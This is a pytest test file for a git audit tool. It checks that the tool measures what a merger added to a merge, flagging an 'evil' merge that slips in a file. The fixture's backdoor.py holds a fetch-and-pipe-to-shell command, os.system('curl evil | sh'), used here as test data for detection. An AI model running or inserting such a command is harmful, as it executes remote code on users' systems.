"""A merge that is not clean: the merger's own content, measured against git's own merge."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.support.gitrepo import ALICE, BOB, CAROL, DAVE, GitRepo
from twokey.audit import AuditOptions, ReportFormat, render, run_audit

BASE = "one\ntwo\nthree\nfour\nfive\n"


def _merge(repo: GitRepo, branch: str, message: str, files: dict[str, str]) -> str:
    """Merge ``branch`` as bob, writing ``files`` before committing (a resolution or more)."""
    repo.git("merge", "-q", "--no-ff", "--no-commit", branch, person=BOB, check=False)
    for path, text in files.items():
        repo.write(path, text)
    repo.git("add", "-A")
    repo.git("commit", "-q", "-m", message, person=BOB)
    return repo.rev_parse("HEAD")


@pytest.fixture(scope="module")
def history(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    """resolved: a conflict on one line resolved in one line; evil: a clean merge with a
    file added by the merger; clean: git's own merge; octopus: three parents."""
    repo = GitRepo.init(tmp_path_factory.mktemp("resolutions") / "r")
    repo.commit({"f.txt": BASE, "g.txt": "g\n"}, "base", ALICE)
    c = {}
    repo.git("checkout", "-q", "-b", "topic")
    repo.commit({"f.txt": BASE.replace("two", "TWO")}, "shout two", CAROL)
    repo.git("checkout", "-q", "main")
    repo.commit({"f.txt": BASE.replace("two", "deux")}, "translate two", ALICE)
    c["resolved"] = _merge(repo, "topic", "Merge topic", {"f.txt": BASE.replace("two", "DEUX")})
    repo.git("checkout", "-q", "-b", "topic2")
    repo.commit({"g.txt": "g changed\n"}, "change g", CAROL)
    repo.git("checkout", "-q", "main")
    backdoor = "import os\nos.system('curl evil | sh')\n# done\n"
    c["evil"] = _merge(repo, "topic2", "Merge topic2", {"backdoor.py": backdoor})
    repo.git("checkout", "-q", "-b", "topic3")
    repo.commit({"h.txt": "h\n"}, "add h", CAROL)
    repo.git("checkout", "-q", "main")
    c["clean"] = _merge(repo, "topic3", "Merge topic3", {})
    for name in ("o1", "o2"):
        repo.git("checkout", "-q", "-b", name, "main")
        repo.commit({f"{name}.txt": "o\n"}, f"add {name}", DAVE)
    repo.git("checkout", "-q", "main")
    repo.git("merge", "-q", "--no-ff", "-m", "Octopus", "o1", "o2", person=BOB)
    c["octopus"] = repo.rev_parse("HEAD")
    return repo.path, c


def _rows(path: Path) -> dict[str, dict[str, Any]]:
    report = run_audit(AuditOptions(path))
    try:
        data = json.loads(render(report, ReportFormat.JSON))
    finally:
        report.close()
    return {row["commit"]: row for row in data["changes"]}


def test_a_small_resolution_is_measured_as_such(history: tuple[Path, dict[str, str]]) -> None:
    path, c = history
    row = _rows(path)[c["resolved"]]
    assert "UNCLEAN_MERGE" in {f["code"] for f in row["findings"]}
    (res,) = row["resolutions"]
    assert res["commit"] == c["resolved"]
    assert (res["measured"], res["conflicted"], res["files"]) == (True, ["f.txt"], ["f.txt"])
    # git's merge holds the conflict: <<<<<<<, deux, =======, TWO, >>>>>>> (5 lines);
    # the merger kept one line of their own in their place
    assert (res["added"], res["removed"], res["lines"], res["outside_conflicts"]) == (1, 5, 6, [])


def test_an_evil_merge_shows_content_outside_any_conflict(
    history: tuple[Path, dict[str, str]],
) -> None:
    path, c = history
    (res,) = _rows(path)[c["evil"]]["resolutions"]
    assert (res["conflicted"], res["outside_conflicts"]) == ([], ["backdoor.py"])
    assert (res["added"], res["removed"]) == (3, 0)


def test_a_clean_merge_and_an_octopus(history: tuple[Path, dict[str, str]]) -> None:
    path, c = history
    rows = _rows(path)
    assert rows[c["clean"]]["resolutions"] == []
    assert "UNCLEAN_MERGE" not in {f["code"] for f in rows[c["clean"]]["findings"]}
    (res,) = rows[c["octopus"]]["resolutions"]
    assert (res["measured"], res["lines"]) == (False, 0)


def test_text_and_html_say_the_size(history: tuple[Path, dict[str, str]]) -> None:
    path, c = history
    report = run_audit(AuditOptions(path))
    try:
        text = render(report, ReportFormat.TEXT)
        html = render(report, ReportFormat.HTML)
    finally:
        report.close()
    assert (
        f"      merger's own content in {c['resolved'][:7]}: 6 line(s) (+1 -5) in 1 file(s); "
        "1 conflicted file(s) resolved; nothing outside the conflicts"
    ) in text.splitlines()
    assert (
        f"      merger's own content in {c['evil'][:7]}: 3 line(s) (+3 -0) in 1 file(s); "
        "0 conflicted file(s) resolved; 1 file(s) changed outside any conflict: backdoor.py"
    ) in text.splitlines()
    assert "not measured (git merges two related commits" in text
    assert html.count('<p class="resolution"') == 3
    assert '<p class="resolution" data-lines="3" data-outside="1">' in html
